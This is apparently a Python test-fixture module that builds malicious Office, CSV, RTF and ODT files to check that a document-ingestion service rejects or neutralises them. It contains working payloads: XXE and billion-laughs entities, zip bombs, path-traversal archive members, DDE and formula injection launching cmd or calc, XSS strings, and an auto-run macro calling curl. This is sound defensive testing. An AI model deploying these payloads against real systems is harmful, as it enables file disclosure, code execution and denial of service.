"""Word and Excel files, which are archives of XML; tables as text; what LibreOffice converts."""

from __future__ import annotations

import os
import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO
from xml.sax.saxutils import escape

from tests import office_files as made
from tests.hostile.case import FEE, TEXT, Case, when_needed

BODY = "word/document.xml"
GOOD = made.word(("Title", "云岭茶叶学会章程"), *TEXT.split("\n")[2:])
BOOK = made.sheet({"会费": [["类别", "会费", "名额"], ["单位会员", 2000, 1], ["个人会员", 200, 2]]})
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefg", "bcdefgh", strict=True)) + "]>"  # fmt: skip


def cases(port: int) -> Iterator[Case]:
    yield from _word(port)
    yield from _sheet(port)
    yield from _csv(port)
    yield from _office(port)


def _body(inner: str, head: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document xmlns:w="{made.W}" {made._MORE}><w:body>{inner}</w:body></w:document>'.encode()


def _paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{escape(words)}</w:t></w:r></w:p>"


def _part(data: bytes, name: str) -> str:
    return zipfile.ZipFile(BytesIO(data)).read(name).decode()


def _with_relation(data: bytes, rels: str, kind: str, target: str) -> bytes:
    old = _part(data, rels)
    new = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return made.changed(data, {rels: old.replace("</Relationships>", new).encode()})


def _flipped(data: bytes) -> bytes:
    """One byte of a packed member is another: its checksum no longer holds."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        place = archive.getinfo(BODY).header_offset + 80
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


def _patched(data: bytes, local: int, central: int, value: bytes) -> bytes:
    """A field of every member's two headers, overwritten."""
    out = bytearray(data)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for member in archive.infolist():
            out[member.header_offset + local : member.header_offset + local + len(value)] = value
    place = out.find(b"PK\x01\x02")
    while place >= 0:
        out[place + central : place + central + len(value)] = value
        place = out.find(b"PK\x01\x02", place + 4)
    return bytes(out)


def _doubled(data: bytes) -> bytes:
    """Two members of one name: another body behind the first."""
    out = BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo("word/other.xml"), "x")
    return out.getvalue().replace(b"word/other.xml", b"word/styles.xm")


def _word(port: int) -> Iterator[Case]:
    away = f"http://127.0.0.1:{port}"
    rels = "word/_rels/document.xml.rels"
    nested = "<w:sdt><w:sdtContent>" * 300 + _paragraph("深处") + "</w:sdtContent></w:sdt>" * 300
    deep = "<w:tbl><w:tr><w:tc>" * 150 + _paragraph("深处") + "</w:tc></w:tr></w:tbl>" * 150
    style_ring = _part(GOOD, "word/styles.xml").replace('<w:basedOn w:val="Normal"/>', '<w:basedOn w:val="Heading1"/>')
    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "{away}/f" \\* DDEAUTO c:\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    taken = (
        ("picture-elsewhere", _with_relation(GOOD, rels, "image", f"{away}/a.png")),
        ("template-elsewhere", _with_relation(GOOD, rels, "attachedTemplate", f"{away}/t.dotm")),
        ("part-elsewhere", _with_relation(GOOD, rels, "aFChunk", f"{away}/c.html")),
        ("object-elsewhere", _with_relation(GOOD, rels, "oleObject", "file:///etc/passwd")),
        ("field", made.changed(GOOD, {BODY: _body(field + "".join(map(_paragraph, TEXT.split("\n"))))})),
        ("climbing", made.changed(GOOD, {"../../outside/owned.txt": b"x", "/etc/owned": b"x", "..\\owned": b"x"})),
        ("macro", made.changed(GOOD, {"word/vbaProject.bin": os.urandom(5000)})),
        ("style-ring", made.changed(GOOD, {"word/styles.xml": style_ring.encode()})),
        ("odd-numbers", made.changed(GOOD, {BODY: _body(f'<w:p><w:pPr><w:outlineLvl w:val="{"9" * 5000}"/><w:numPr><w:ilvl w:val="-5"/><w:numId w:val="99999"/></w:numPr></w:pPr></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{_paragraph("格")}</w:tc><w:tc>{_paragraph("子")}</w:tc></w:tr></w:tbl>{"".join(map(_paragraph, TEXT.split(chr(10))))}')})),
        ("active", made.changed(GOOD, {BODY: _body("".join(map(_paragraph, (TEXT + "<script>alert(1)</script>").split("\n"))))})),
        ("two-of-a-name", _doubled(GOOD)),
        ("no-styles", made.changed(GOOD, {BODY: _body("".join(map(_paragraph, TEXT.split("\n"))).replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="no-such"/></w:pPr>'))})),
    )  # fmt: skip
    for name, data in taken:
        yield Case(f"docx/{name}.docx", data, "ingest", shows=FEE, hides="外面的秘密", child=True)
    for name, data, reason in (
        ("entities", made.changed(GOOD, {BODY: _body("<w:p><w:r><w:t>&h;</w:t></w:r></w:p>", LAUGHS)}), "DTD"),
        ("outside-entity", made.changed(GOOD, {BODY: _body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY x SYSTEM "{away}/e">]>')}), "DTD"),
        ("file-entity", made.changed(GOOD, {BODY: _body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}), "DTD"),
        ("wide-entities", made.changed(GOOD, {BODY: _body("<w:p/>", LAUGHS).decode().replace("UTF-8", "UTF-16").encode("utf-16")}), "DTD"),
        ("bomb", when_needed(lambda: made.changed(GOOD, {"word/media/a.bin": bytes(60 << 20)})), "炸弹"),
        ("body-bomb", when_needed(lambda: made.changed(GOOD, {BODY: _body(_paragraph("会" * 10_000_000))})), "炸弹|内存|时"),
        ("many-members", when_needed(lambda: made.changed(GOOD, {f"x/{n}": b"" for n in range(2500)})), "超过 2000"),
        ("cut", GOOD[: len(GOOD) // 2], "损坏"),
        ("no-body", made.changed(GOOD, {BODY: None}), "损坏"),
        ("no-types", made.changed(GOOD, {"[Content_Types].xml": None}), "损坏"),
        ("no-xml", made.changed(GOOD, {BODY: b"PK not xml"}), "损坏"),
        ("cut-xml", made.changed(GOOD, {BODY: _part(GOOD, BODY).encode()[:-40]}), "损坏"),
        ("wrong-checksum", _flipped(GOOD), "损坏"),
        ("unknown-packing", _patched(GOOD, 8, 10, struct.pack("<H", 97)), "损坏"),
        ("with-a-password", _patched(GOOD, 6, 8, b"\x01\x00"), "加密"),
        ("locked", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "加密"),
        ("nested", made.changed(GOOD, {BODY: _body(nested)}), "嵌套|损坏"),
        ("tables-in-tables", made.changed(GOOD, {BODY: _body(deep)}), "嵌套|损坏"),
        ("head-alone", b"PK\x03\x04", "损坏"),
        ("empty-archive", b"PK\x05\x06" + bytes(18), "损坏"),
    ):  # fmt: skip
        yield Case(f"docx/{name}.docx", data, "reject", reason, child=True)
    yield Case("docx/no-words.docx", made.changed(GOOD, {BODY: _body("<w:p/>")}), "skip", "没有文字", child=True)
    yield Case("docx/no-paragraphs.docx", made.changed(GOOD, {BODY: _body("")}), "skip", "没有文字", child=True)


def _cells(rows: str) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    old = _part(BOOK, name)
    start, end = old.index("<sheetData>") + 11, old.index("</sheetData>")
    return made.changed(BOOK, {name: (old[:start] + rows + old[end:]).encode()})


def _sheet(port: int) -> Iterator[Case]:
    name = "xl/worksheets/sheet1.xml"
    kept = _part(BOOK, name)
    rows = kept[kept.index("<sheetData>") + 11 : kept.index("</sheetData>")]
    formula = (
        rows
        + f'<row r="4"><c r="A4" t="str"><f>WEBSERVICE("http://127.0.0.1:{port}/w")</f><v>甲</v></c><c r="B4"><f>cmd|\' /C calc\'!A0</f></c></row>'
    )
    hidden = _part(BOOK, "xl/workbook.xml").replace('state="visible"', 'state="veryHidden"')
    outside = _with_relation(BOOK, "xl/_rels/workbook.xml.rels", "externalLinkPath", f"http://127.0.0.1:{port}/b.xlsx")
    merged = kept.replace(
        "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    for label, data in (
        ("formulas", _cells(formula)),
        ("link-elsewhere", outside),
        ("macro", made.changed(BOOK, {"xl/vbaProject.bin": os.urandom(5000)})),
        ("climbing", made.changed(BOOK, {"../../outside/owned.txt": b"x"})),
        ("active", made.sheet({"<script>": [["类别", "会费", "名"], ["单位会员", "<script>alert(1)</script>", "=1+1"], ["个人会员", "{{7*7}}", "@x"]]})),
        ("odd-dates", made.sheet({"会费": [["类别", "会费", "名额"], ["单位会员", 1e300, -1e-300], ["个人会员", True, 0]]})),
    ):  # fmt: skip
        yield Case(f"xlsx/{label}.xlsx", data, "ingest", shows="单位会员", child=True)
    for label, data, reason in (
        ("entities", made.changed(BOOK, {name: kept.replace("<worksheet", LAUGHS + "<worksheet", 1).encode()}), "DTD"),
        ("bomb", when_needed(lambda: made.changed(BOOK, {name: kept.replace("<sheetData>", "<sheetData>" + " " * (50 << 20), 1).encode()})), "炸弹"),
        ("far-cell", _cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "万格"),
        ("all-merged", made.changed(BOOK, {name: merged.encode()}), "万格|内存|时|损坏"),
        ("no-such-cell", _cells('<row r="1"><c r="ZZZZ99999999"><v>1</v></c></row>'), "损坏|万格"),
        ("cut", BOOK[: len(BOOK) // 2], "损坏"),
        ("no-workbook", made.changed(BOOK, {"xl/workbook.xml": None}), "损坏"),
        ("no-string", _cells('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'), "损坏"),
        ("no-xml", made.changed(BOOK, {name: b"\0\1\2"}), "损坏"),
        ("many-rows", made.sheet({"表": [[n] for n in range(3)]})[:-30], "损坏"),
    ):  # fmt: skip
        yield Case(f"xlsx/{label}.xlsx", data, "reject", reason, child=True)
    yield Case(
        "xlsx/all-hidden.xlsx", made.changed(BOOK, {"xl/workbook.xml": hidden.encode()}), "skip", "没有文字", child=True
    )
    yield Case("xlsx/no-cells.xlsx", made.sheet({"表": []}), "skip", "没有文字", child=True)


def _csv(port: int) -> Iterator[Case]:
    head = "类别,会费,名额\n单位会员,2000,1\n"
    for name, data in (
        ("formulas", f'{head}"=HYPERLINK(""http://127.0.0.1:{port}/"")",=cmd|calc,@SUM(1)\n'.encode()),
        ("semicolons", head.replace(",", ";").encode("gb18030")),
        ("old-mac-lines", head.replace("\n", "\r").encode()),
        ("ragged", (head + "a\n,,,,,,,,,,,,,\nb,c,d,e,f,g\n").encode()),
        ("wide", (",".join(f"列{n}" for n in range(3000)) + "\n单位会员" + ",1" * 2999 + "\n").encode()),
        ("active", (head + "<script>alert(1)</script>,{{7*7}},<img src=x onerror=alert(1)>\n").encode()),
        ("quoted-lines", (head + '"第一行\n第二行","a ""b"" c",3\n').encode()),
        ("spaced", ("\n\n" + head + "\n\n").encode("utf-16")),
        ("one-column", "单位会员\n个人会员\n".encode()),
    ):
        yield Case(f"csv/{name}.csv", data, "ingest", shows="单位会员", child=True)
    for name, data, reason in (
        ("open-quote", b'a,"' + b"x" * 2_000_000, "引号"),
        ("long-cell", ("a,b\n" + "会" * 1_500_000 + ",1\n").encode(), "太长"),
        ("zero-bytes", head.encode().replace(b",", b"\0"), "不是文本|编码"),
        ("two-encodings", head.encode() + head.encode("gb18030"), "编码|文本"),
        ("misread", head.encode().decode("latin-1").encode(), "乱码|编码"),
        ("many-rows", "甲,1\n".encode() * 250_000, "万行"),
    ):
        yield Case(f"csv/{name}.csv", data, "reject", reason, child=True)
    yield Case("csv/commas-alone.csv", b",,,\n,,,\n", "skip", "没有文字", child=True)


def _office(port: int) -> Iterator[Case]:
    """What LibreOffice converts, where it is installed; elsewhere each is refused with what to do."""
    away = f"http://127.0.0.1:{port}"
    words = "".join(f"\\u{ord(c)}?" if c > "\x7f" else "\\par " if c == "\n" else c for c in TEXT)
    flat = '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2">%s<office:body><office:text>%s</office:text></office:body></office:document-content>'
    lines = "".join(f"<text:p>{line}</text:p>" for line in TEXT.split("\n"))
    section = f'<text:section text:name="s"><text:section-source xlink:href="{away}/s.odt"/><text:p>旧</text:p></text:section>'
    picture = f'<text:p><draw:frame draw:name="f"><draw:image xlink:href="{away}/p.png"/></draw:frame></text:p>'
    events = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
    for name, data in (
        ("plain.rtf", f"{{\\rtf1\\ansi {words}}}".encode()),
        ("field.rtf", f'{{\\rtf1\\ansi {{\\field{{\\*\\fldinst INCLUDEPICTURE "{away}/r.png" \\\\d}}{{\\fldrslt x}}}}{words}}}'.encode()),
        ("text-elsewhere.rtf", f'{{\\rtf1\\ansi {{\\field{{\\*\\fldinst INCLUDETEXT "{away}/r.txt"}}{{\\fldrslt x}}}}{words}}}'.encode()),
        ("template.rtf", f"{{\\rtf1\\ansi{{\\*\\template {away}/t.dot}}{words}}}".encode()),
        ("plain.odt", odt(flat % ("", lines))),
        ("section.odt", odt(flat % ("", section + lines))),
        ("picture.odt", odt(flat % ("", picture + lines))),
        ("macro.odt", odt(flat % (events, lines), macro=f'Shell("curl {away}/m") : Open "/tmp/owned" For Output As 1')),
        ("entity.odt", odt(f'<!DOCTYPE x SYSTEM "{away}/d.dtd">' + flat % ("", lines))),
        ("web.doc", f'<html><head><base href="{away}/"></head><body><img src="i.png"><iframe src="{away}/f"></iframe><link rel=stylesheet href="{away}/c.css"><p>{TEXT}</p></body></html>'.encode()),
        ("new.doc", GOOD),
        ("new.wps", GOOD),
    ):  # fmt: skip
        yield Case(
            f"office/{name}",
            data,
            "any",
            shows=FEE if name in ("plain.rtf", "plain.odt", "new.doc") else "",
            hides="Shell(",  # of the macro
            child=True,
        )
    for name, data in (
        ("nonsense.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4000)),
        ("cut.odt", odt(flat % ("", lines))[:300]),
        ("cut.rtf", b"{\\rtf1"),
    ):
        yield Case(f"office/{name}", data, "any", child=True)


def odt(content: str, macro: str = "") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>%s</manifest:manifest>'
        listed = ""
        if macro:
            library = '<?xml version="1.0"?><!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>'
            libraries = '<?xml version="1.0"?><!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>'
            module = f'<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n{escape(macro)}\nEnd Sub</script:module>'
            for path, part in (("Basic/Standard/script-lb.xml", library), ("Basic/script-lc.xml", libraries), ("Basic/Standard/Module1.xml", module)):  # fmt: skip
                archive.writestr(path, part)
                listed += f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="text/xml"/>'
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest % listed)
    return out.getvalue()
